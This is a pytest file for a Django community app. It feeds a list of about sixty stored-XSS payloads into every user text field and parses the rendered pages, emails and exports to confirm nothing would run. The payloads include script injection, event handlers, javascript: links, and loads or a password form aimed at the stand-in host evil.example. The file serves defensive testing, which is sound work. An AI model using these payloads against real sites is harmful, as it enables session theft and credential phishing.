"""Stored XSS: a list of payloads through every text field of a conversation, and what a browser would make of the pages.

The pages are parsed, not searched for words: a payload may be shown, it must not become an element or an address.
"""

import json
from collections.abc import Callable
from html.parser import HTMLParser
from typing import Any

import pytest
from django.conf import settings as django_settings
from django.core import mail
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.utils import translation

from accounts.models import Profile, User
from community import flows, markup
from community.flows import mentions
from community.models import Attachment, Topic
from kit import outbox, persons, storage
from kit.files import shown_name
from kit.models import OutboxMessage
from kit.text import render_markdown, strip_controls
from tests.factories import make_space, make_topic, make_user

pytestmark = pytest.mark.django_db
PAYLOADS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    '<img src="x" onerror="alert(1)" title="@mei 2:14">',
    "<svg/onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><script>alert&#40;1&#41;</script></svg>",
    "<math><mtext></mtext><mglyph><style><img src=x onerror=alert(1)></style></mglyph></math>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=//evil.example/x.swf>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>*{background:url(//evil.example)}</style>",
    "<form action=//evil.example><input name=password></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<details open ontoggle=alert(1)>",
    "<body onload=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<a href='jAvAsCrIpT:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    '" onmouseover="alert(1)" x="',
    "' autofocus onfocus='alert(1)",
    "`</code><script>alert(1)</script>`",
    "```\n</code></pre><script>alert(1)</script>\n```",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "--><script>alert(1)</script><!--",
    "]]><script>alert(1)</script>",
    "{{ 1234*5678 }}{% debug %}{% load static %}",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt&colon;alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox(1))",
    "[x](//evil.example \"onmouseover='alert(1)'\")",
    "[x](https://a.example '\"><script>alert(1)</script>')",
    "![x](javascript:alert(1))",
    '![x"onerror="alert(1)](#file-1)',
    "![<script>alert(1)</script>](#file-1)",
    "[a][b]\n\n[b]: javascript:alert(1)",
    "<javascript:alert(1)>",
    '<https://a.example/"onmouseover=alert(1)>',
    '@mei"><script>alert(1)</script> 2:14<script>alert(1)</script>',
    "[@mei](javascript:alert(1)) <b onclick=alert(1)>2:14</b>",
    "> quote <script>alert(1)</script>\n> [x](javascript:alert(1))",
    "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#x3c;script&#x3e;alert(1)&#x3c;/script&#x3e;",
    "\u202e<script>alert(1)</script>\u2066",
    "＜script＞alert(1)＜/script＞",
    "<script\x0b>alert(1)</script\x0b>",
    "\x00<scr\x00ipt>alert(1)</script>",
    "a" * 120 + "<script>alert(1)",
]
FOREIGN = {"object", "embed", "base", "applet", "frame", "math", "animate"}
ADDRESSES = {"href", "src", "action", "formaction", "srcdoc", "data", "poster", "xlink:href", "data-hx-post", "data-hx-get"}


class Browser(HTMLParser):
    """Collects what would run or load from elsewhere."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.bad: list[str] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        values = {name: value or "" for name, value in attrs}
        if tag in FOREIGN or (tag == "script" and not values.get("src", "").startswith("/")) or tag == "iframe":
            self.bad.append(f"<{tag} {values}>")
        if tag == "form" and ("evil" in values.get("action", "") or ":" in values.get("action", "").partition("?")[0]):
            self.bad.append(f"<form {values}>")
        for name, value in values.items():
            plain = "".join(value.split()).lower()
            if name.startswith("on") or name in {"style", "srcdoc"}:
                self.bad.append(f"<{tag} {name}={value}>")
            if name in ADDRESSES and plain.startswith(("javascript:", "data:", "vbscript:")):
                self.bad.append(f"<{tag} {name}={value}>")
            if tag in {"script", "link", "img", "source"} and name in ADDRESSES and "evil.example" in value:
                self.bad.append(f"<{tag} {name}={value}>")


def check(html: str, where: str) -> None:
    assert Browser(html).bad == [], where
    assert "\u202e" not in html, where
    assert "7006652" not in html, where


@pytest.fixture
def town(settings: Any, monkeypatch: pytest.MonkeyPatch) -> dict[str, Any]:
    """A space in which every payload stands in every field: names, bios, titles, posts, edits, drafts, files, reasons."""
    settings.POSTS_PER_MINUTE = settings.EDITS_PER_MINUTE = settings.POST_FILES_PER_HOUR = 10_000
    monkeypatch.setattr(storage.S3Storage, "_save", lambda _self, key, _content: key)
    boss, mei = make_user(name="Boss"), make_user(name=PAYLOADS[3][:80])
    Profile.objects.filter(user=mei).update(handle="mei", is_public=True, bio=strip_controls("\n\n".join(PAYLOADS))[:3000])
    space = make_space(slug="town", name=PAYLOADS[0][:80])
    flows.join(user=boss, space=space, role="owner")
    flows.join(user=mei, space=space)
    common = {"author": boss, "space": space, "kind": "question"}
    topics = []
    for number, payload in enumerate(PAYLOADS):
        text = payload.replace("\x00", "") or "x"
        topics.append(flows.open_topic(**common, title=text[:140], source=f"@mei {text}", key=f"t{number}"))
    for number, payload in enumerate(PAYLOADS):
        place = f"topic:{topics[0].pk}"
        sent = SimpleUploadedFile("x.txt", b"body")
        sent.name = f"{payload.replace('/', '')[:90]}.txt"
        file = flows.keep_file(owner=mei, place=place, file=sent, key=f"f{number}")
        text = f"{payload} [f](#file-{file.pk})"
        made = flows.reply(author=mei, topic=topics[0], source=text, key=f"r{number}", answers_no=1 + number, files=[file.pk])
        flows.edit_post(by=mei, post=made, source=f"{text} edited")
    User.objects.filter(pk=boss.pk).update(name='"><script>alert(1)</script><img src=x onerror=alert(1)>')
    return {"boss": boss, "mei": mei, "space": space, "topic": topics[0], "topics": topics}


def test_nothing_runs_in_any_page_of_a_conversation(town: dict[str, Any], client_of: Callable[[User], Client]) -> None:
    boss, mei, topic = client_of(town["boss"]), client_of(town["mei"]), Topic.objects.get(pk=town["topic"].pk)
    base, last = "/en/community/town/", topic.last_no
    pages = ["/en/community/", base, f"{base}?kind=question", "/en/notices/", "/en/people/mei/", "/en/search/?q=script+alert"]
    pages += [f"/en{topic.path}?page={number}" for number in range(1, last // 20 + 2)]
    pages += [f"{base}{topic.pk}/{number}/{inner}/" for number in (2, last) for inner in ("history", "report")]
    pages += [f"{base}{one.pk}/?quote=1" for one in town["topics"][:3]] + [f"{base}{topic.pk}/?quote={last}"]
    for one in Topic.objects.filter(space=town["space"]).order_by("pk")[::4]:
        pages += [f"/en{one.path}", f"{base}{one.pk}/1/edit/"]
    for page in pages:
        answer = (boss if "edit" in page else mei).get(page, follow=True)
        assert answer.status_code == 200, page
        check(answer.content.decode(), page)
    assert Attachment.objects.filter(post=None).count() == 0


def test_nothing_runs_in_previews_drafts_quotes_mails_and_the_data_that_people_take_along(
    town: dict[str, Any], client_of: Callable[[User], Client]
) -> None:
    browser, place = client_of(town["mei"]), f"topic:{town['topic'].pk}"
    for number, payload in enumerate(PAYLOADS):
        preview = browser.post("/en/community/town/preview/", {"place": place, "source": payload})
        check(preview.content.decode(), f"preview of {payload!r}")
        browser.post("/en/community/town/draft/", {"place": place, "source": payload, "round": number, "answers": payload})
        if number % 6 == 0:
            check(browser.get(f"/en{Topic.objects.get(pk=town['topic'].pk).path}").content.decode(), f"draft of {payload!r}")
    for address in (f"{town['topic'].pk}/2/quote/", "names/?q=me"):
        answer = browser.get(f"/en/community/town/{address}")
        assert answer.headers["Content-Type"].startswith(("text/plain", "application/json"))
        assert answer.headers["X-Content-Type-Options"] == "nosniff"
    upload = {"place": place, "file": SimpleUploadedFile("x.txt", b"x")}
    upload["file"].name = '"><img src=x onerror=alert(1)>.txt'
    check(browser.post("/en/community/town/files/", upload).content.decode(), "a file's tick box")
    _check_mails(town)


def _check_mails(town: dict[str, Any]) -> None:
    for topic in (mentions.TOPIC, "post.written"):
        for pk in OutboxMessage.objects.filter(topic=topic, done_at=None).order_by("pk").values_list("pk", flat=True)[:60]:
            outbox.deliver(message_id=pk)
    with translation.override("en"):
        for pk in OutboxMessage.objects.filter(topic="notice.mail").order_by("pk").values_list("pk", flat=True)[:50]:
            assert outbox.deliver(message_id=pk)
    assert len(mail.outbox) > 20
    for message in mail.outbox:
        assert "\n" not in message.subject
        for content, kind in message.alternatives:  # type: ignore[attr-defined]
            if kind == "text/html":
                bad = [found for found in Browser(content).bad if " style=" not in found]
                assert bad == [], message.subject
    data = json.loads(json.dumps(persons.everything_of(town["mei"])["community"], default=str))
    assert len(data["posts"]) == len(PAYLOADS)


def test_a_reaction_of_a_made_up_kind_is_no_address_and_stores_nothing(client_of: Callable[[User], Client]) -> None:
    topic, reader = make_topic(), make_user()
    flows.join(user=reader, space=topic.space)
    for kind in ("<script>", "x" * 300, "thanks'--", "javascript:alert(1)"):
        address = f"/en/community/{topic.space.slug}/{topic.pk}/1/thank/{kind}/"
        assert client_of(reader).post(address).status_code in (403, 404)
    assert topic.posts.get().reactions.count() == 0


@pytest.mark.parametrize("payload", PAYLOADS)
def test_what_is_shown_of_each_payload_with_files_mentions_and_seconds_is_quiet(payload: str) -> None:
    file = {"id": 1, "kind": "image", "name": shown_name(payload), "size": 1, "width": 1, "height": 1}
    shown = markup.shown(
        markup.render(payload), space="town", files=[file], people={"mei": "/people/mei/"}, lesson="/courses/u/day-1/"
    )
    check(shown, payload)
    check(render_markdown(markup.quoted(payload, payload, "/community/town/1/1/")), payload)


def test_the_list_is_long_enough_and_the_parser_sees_what_runs() -> None:
    assert len(PAYLOADS) >= 40
    running = [payload for payload in PAYLOADS if Browser(payload).bad]
    assert len(running) > 25, "a parser that finds nothing proves nothing"
    assert django_settings.POSTS_PER_MINUTE == 10
